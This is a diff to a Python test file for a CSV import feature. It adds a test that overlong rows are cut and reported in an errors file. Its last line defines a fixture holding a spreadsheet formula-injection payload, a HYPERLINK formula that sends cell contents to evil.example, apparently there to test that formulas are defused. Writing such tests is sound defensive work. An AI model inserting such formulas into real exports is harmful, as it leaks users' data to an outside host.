@@ -11,6 +11,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 from pydantic import BaseModel, ConfigDict
 
+from cqrs.errors import ValidationError
 from cqrs.imports.csv.errors_file import errors_csv
 from cqrs.imports.csv.formulas import harmless, plain
 from cqrs.imports.models import ImportedItem, ProcessingMode, RejectedRow, RowCounts
@@ -98,6 +99,22 @@ def test_a_row_with_a_carriage_return_can_be_imported_as_the_errors_file_has_it(
 
     assert again.counts == RowCounts(1, 1)
     assert imports.place("AAA").name == "Alpha\r Field"
+
+
+@pytest.mark.parametrize("is_refused_later", [False, True])
+def test_a_row_that_is_cut_says_so(imports, is_refused_later):
+    if is_refused_later:
+        imports.application.sync_handler("picky", item_type="PLACE")(_refuse)
+    code = "AAA" if is_refused_later else "A"
+    job = import_directly(imports, f"code,city\n{code},{310_000 * 'N'}-END\n")
+
+    (_, (_, reason, *cells)) = read(imports.errors(job.key))
+    assert "Behind 300,000 characters it is cut here" in reason
+    assert len(",".join(cells)) == 300_000
+
+
+def _refuse(_command):
+    raise ValidationError("no")
 
 
 FILE = 'code,city,runways,"=HYPERLINK(""http://evil.example/?x=""&A1,""ok"")"\r\n'
